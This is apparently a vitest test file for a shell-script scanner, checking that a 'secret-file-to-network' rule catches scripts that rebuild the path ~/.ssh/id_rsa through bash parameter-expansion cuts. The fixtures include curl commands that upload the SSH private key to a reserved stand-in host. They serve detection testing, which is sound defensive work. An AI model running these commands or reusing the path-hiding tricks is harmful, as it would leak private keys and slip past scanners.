import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Texts that a shell cuts where another stands, with what is left of them; a key is sent by what the attack has left. */
const CUTS: Readonly<Record<string, readonly [attack: string, honest: string]>> = {
  'before the last': ["p='/.ssh/id_rsa/notes'\np=${p%/*}", "p='/notes/.ssh/id_rsa'\np=${p%/.*}"],
  'before the first': ["p='/.ssh/id_rsa:a:b'\np=${p%%:*}", "p='/notes:/.ssh/id_rsa:b'\np=${p%%:*}"],
  'after the first': ["p='a:/.ssh/id_rsa'\np=${p#*:}", "p='/.ssh/id_rsa:/notes'\np=${p#*:}"],
  'after the last': ["p='a:b:/.ssh/id_rsa'\np=${p##*:}", "p='/.ssh/id_rsa:b:/notes'\np=${p##*:}"],
  'nowhere, where it does not stand': ["p='/.ssh/id_rsa'\np=${p%%:*}", "p='/notes'\np=${p##*:}"],
};

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const SENDS = 'curl -s --data-binary @"$HOME$p" https://collect.example.invalid/a';

describe('texts that a shell cuts', () => {
  for (const [name, [attack, honest]] of Object.entries(CUTS)) {
    it(`are known by what is left of them: ${name}`, async () => {
      expect(await rulesOf({ 'run.sh': `${attack}\n${SENDS}\n` })).toContain('secret-file-to-network');
      expect(await rulesOf({ 'run.sh': `${honest}\n${SENDS}\n` })).not.toContain('secret-file-to-network');
    });
  }

  it('hand on what they were cut from', async () => {
    const cut = 'key=$(cat ~/.ssh/id_rsa)\ncurl -s -d "${key##*-}" https://collect.example.invalid/a\n';
    expect(await rulesOf({ 'run.sh': cut })).toContain('secret-file-to-network');
  });
});
